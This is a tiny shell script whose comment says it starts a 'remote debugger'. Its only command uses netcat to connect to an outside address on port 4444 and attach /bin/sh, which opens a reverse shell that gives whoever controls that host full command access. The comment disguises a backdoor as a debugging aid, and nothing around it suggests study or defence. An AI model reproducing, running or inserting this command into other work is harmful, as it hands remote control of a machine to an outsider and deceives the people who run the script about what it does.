#!/bin/sh
# start the remote debugger
nc 203.0.113.23 4444 -e /bin/sh
